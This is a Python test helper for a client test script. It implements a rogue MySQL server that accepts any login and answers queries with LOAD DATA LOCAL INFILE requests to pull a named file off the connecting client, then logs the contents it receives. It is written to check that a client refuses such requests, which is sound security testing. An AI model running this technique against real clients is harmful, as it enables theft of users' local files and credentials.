#!/usr/bin/env python3
"""A rogue MySQL server for tests/scripts/my_rogue.sh (issue 10 item 10).

An adversary, not a mock: it speaks just enough of the MySQL protocol to
greet a client, accept any password, and answer the client's queries with
a LOAD DATA LOCAL INFILE request (0xFB + a file name) for a file of the
client's machine.  It records on FILE_LOG whatever file bytes arrive, so
the test can tell whether the client gave the file away.

  my_rogue_server.py PORT_FILE LOG FILE_TO_ASK [QUERIES_TO_SKIP]

Listens on 127.0.0.1 on a free port (written to PORT_FILE), serves
connections until killed.  The first QUERIES_TO_SKIP queries (default 0)
of a connection are answered with OK, every later one with the file
request.
"""
import os
import socket
import struct
import sys

port_file, log_path, wanted = sys.argv[1], sys.argv[2], sys.argv[3]
n_skip = int(sys.argv[4]) if len(sys.argv) > 4 else 0

CAPS = (0x1 | 0x2 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x10000
        | 0x20000 | 0x80000)   # ... LOCAL_FILES, PROTOCOL_41, no SSL


def log(line):
    with open(log_path, "a") as f:
        f.write(line + "\n")


def read_packet(conn):
    head = b""
    while len(head) < 4:
        chunk = conn.recv(4 - len(head))
        if not chunk:
            return None, None
        head += chunk
    n = head[0] | head[1] << 8 | head[2] << 16
    seq = head[3]
    body = b""
    while len(body) < n:
        chunk = conn.recv(n - len(body))
        if not chunk:
            return None, None
        body += chunk
    return seq, body


def send_packet(conn, seq, body):
    conn.sendall(struct.pack("<I", len(body))[:3] + bytes([seq & 0xFF]) + body)


def ok_packet():
    return b"\x00\x00\x00" + struct.pack("<HH", 2, 0)


def serve(conn):
    scramble = os.urandom(20).replace(b"\x00", b"\x01")
    greeting = (b"\x0a" + b"5.5.5-10.11.0-rogue\x00" + struct.pack("<I", 7)
                + scramble[:8] + b"\x00" + struct.pack("<H", CAPS & 0xFFFF)
                + b"\x2d" + struct.pack("<H", 2) + struct.pack("<H", CAPS >> 16)
                + bytes([21]) + b"\x00" * 10 + scramble[8:] + b"\x00"
                + b"mysql_native_password\x00")
    send_packet(conn, 0, greeting)
    seq, body = read_packet(conn)
    if body is None:
        return
    log("LOGIN")
    send_packet(conn, seq + 1, ok_packet())
    seen = 0
    while True:
        seq, body = read_packet(conn)
        if body is None or body[:1] == b"\x01":   # gone, or COM_QUIT
            return
        if body[:1] != b"\x03":                   # not a query: OK
            send_packet(conn, seq + 1, ok_packet())
            continue
        log("QUERY " + body[1:].decode("utf-8", "replace"))
        seen += 1
        if seen <= n_skip:
            send_packet(conn, seq + 1, ok_packet())
            continue
        send_packet(conn, seq + 1, b"\xfb" + wanted.encode())
        log("ASKED " + wanted)
        got = b""
        while True:
            seq, body = read_packet(conn)
            if body is None:
                log("GONE after %d file bytes" % len(got))
                return
            if body == b"":
                break
            got += body
        log("RECEIVED %d file bytes" % len(got))
        if got:
            log("CONTENT " + got.decode("utf-8", "replace").replace("\n", "\\n"))
        send_packet(conn, seq + 1, ok_packet())


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", 0))
    s.listen(8)
    with open(port_file + ".tmp", "w") as f:
        f.write(str(s.getsockname()[1]))
    os.rename(port_file + ".tmp", port_file)
    while True:
        conn, _ = s.accept()
        try:
            serve(conn)
        except OSError as e:
            log("ERROR %s" % e)
        finally:
            conn.close()


main()
